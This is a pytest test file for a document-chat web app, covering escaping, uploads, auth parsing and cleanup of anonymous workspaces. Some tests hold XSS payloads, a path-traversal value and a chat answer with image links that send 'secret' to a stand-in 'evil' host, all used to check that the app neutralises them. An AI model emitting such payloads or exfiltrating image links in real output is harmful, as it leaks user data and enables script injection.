"""Web-app pieces that don't need a browser: rendering, message flattening, auth, workspace clean-up."""

import pytest

from rag.types import Chunk, DocumentInfo, Hit, IngestResult
from rag.web.chat_stream import flatten
from rag.web.layout import parse_auth
from rag.web.render import document_choices, upload_report
from rag.web.sources import sources_html
from rag.workspace.conversations import ConversationStore
from rag.workspace.owners import (
    WorkspaceJanitor,
    key_owner,
    new_workspace_key,
    user_owner,
    visible_owners,
)


def test_sources_panel_escapes_document_text_and_names():
    hit = Hit(
        1, 0.8766, Chunk("d", "<img src=x onerror=alert(1)>.html", 3, 0, "<script>alert('x')</script> & co")
    )
    panel = sources_html([hit])
    assert "<script>" not in panel and "<img" not in panel
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt; &amp; co" in panel
    assert "&lt;img src=x onerror=alert(1)&gt;.html" in panel
    assert "0.877" in panel and "page 3" in panel and "[1]" in panel and "cosine similarity" in panel


def test_upload_report_lists_every_file():
    report = upload_report(
        [IngestResult("a.md", "added", 3), IngestResult("b.pdf", "failed", reason="encrypted")]
    )
    assert report.splitlines() == [
        "1 of 2 file(s) in, 1 failed",
        "a.md: added (3 chunks)",
        "b.pdf: failed: encrypted",
    ]


def test_document_choices_mark_shared():
    docs = [
        DocumentInfo("1", "a.md", "shared", 2, 1, 0, "h"),
        DocumentInfo("2", "b.pdf", "anon:x", 5, 3, 0, "h"),
    ]
    assert document_choices(docs) == [("a.md (2 chunks) · shared", "1"), ("b.pdf (5 chunks, 3 pages)", "2")]


def test_flatten_gradio6_message_blocks():
    assert (
        flatten(
            [{"type": "text", "text": "Hello"}, {"type": "file", "file": {}}, {"type": "text", "text": "you"}]
        )
        == "Hello\nyou"
    )
    assert flatten("plain") == "plain" and flatten(None) == ""


def test_parse_auth():
    assert parse_auth("") is None
    assert parse_auth("ann:pw1, bob:pw:2") == [("ann", "pw1"), ("bob", "pw:2")]
    with pytest.raises(ValueError, match="RAG_AUTH"):
        parse_auth("nopassword")


def test_owner_ids():
    assert visible_owners(user_owner("ann")) == ["shared", "user:ann"]
    key = new_workspace_key()
    assert len(key) == 32 and key != new_workspace_key()
    assert (
        key_owner(key).startswith("anon:") and key not in key_owner(key) and key_owner(key) == key_owner(key)
    )
    assert key_owner("") is None and key_owner("../../etc") is None and key_owner(key.upper()) is None


def test_janitor_deletes_only_abandoned_anonymous_workspaces(library, ingestor, tmp_path):
    for owner in ("anon:old", "anon:active", "user:ann", "shared"):
        path = tmp_path / f"{owner.replace(':', '_')}.txt"
        path.write_text(f"document of {owner}")
        ingestor.ingest_bytes(path.name, path.read_bytes(), owner)
    now = [library.store.list_documents(["anon:old"])[0].added_at + 10.0]
    conversations = ConversationStore(tmp_path / "conversations.db")
    janitor = WorkspaceJanitor(library.store, conversations, ttl_s=100, clock=lambda: now[0])
    janitor.touch("anon:active")
    assert janitor.sweep() == []  # nothing is older than the TTL yet
    now[0] += 95
    janitor.touch("anon:active")
    now[0] += 10
    assert janitor.sweep() == ["anon:old"]
    owners = {
        d.owner for d in library.store.list_documents(["anon:old", "anon:active", "user:ann", "shared"])
    }
    assert owners == {"anon:active", "user:ann", "shared"}


def test_chat_markdown_neutralises_html_and_images_and_round_trips():
    from rag.web.render import chat_markdown, chat_text

    answer = 'See <img src="https://evil/?q=secret"> and ![x](https://evil/?q=secret) [1]'
    shown = chat_markdown(answer)
    assert "<img" not in shown and "![" not in shown
    assert chat_text(shown) == answer


class LoggedIn:
    """Stands in for gr.Request: a login user's request."""

    username = "ann"
    session_hash = "s1"


def test_upload_refuses_oversized_and_duplicate_names_but_ingests_the_rest(assistant, tmp_path):

    from rag.web.handlers import WebApp

    assistant.settings = assistant.settings.replace(max_upload_mb=1)
    app = WebApp(assistant)
    (tmp_path / "one").mkdir()
    (tmp_path / "two").mkdir()
    (tmp_path / "one" / "a.md").write_text("Alpha document about owls.")
    (tmp_path / "two" / "a.md").write_text("Another file with the same name.")
    (tmp_path / "big.txt").write_text("x " * 600_000)
    paths = [str(tmp_path / "one" / "a.md"), str(tmp_path / "big.txt"), str(tmp_path / "two" / "a.md")]
    report, *_ = app.ingest(paths, "", LoggedIn(), None, progress=lambda *a, **k: None)
    assert report.splitlines() == [
        "1 of 3 file(s) in, 2 failed",
        "a.md: added (1 chunks)",
        "big.txt: failed: larger than the 1 MB limit",
        "a.md: failed: another file of this upload has that name",
    ]
    assert [d["name"] for d in app.list_documents("", LoggedIn(), None)[0]] == ["a.md"]


def test_sample_loads_only_into_an_empty_shared_library(assistant, tmp_path, monkeypatch):
    from rag.web.handlers import WebApp

    sample = tmp_path / "sample" / "reference"  # a small stand-in: the real one takes 15 s to embed
    sample.mkdir(parents=True)
    (sample / "index.md").write_text("# Index\n\nHNSW is a graph index.")
    monkeypatch.setattr("rag.documents.SAMPLE_DIR", sample.parent)
    app = WebApp(assistant)
    first, *_ = app.load_sample("", LoggedIn(), None, progress=lambda *a, **k: None)
    assert "reference/index.md: added" in first
    again, *_ = app.load_sample("", LoggedIn(), None, progress=lambda *a, **k: None)
    assert again == "The shared library already has documents; nothing loaded."
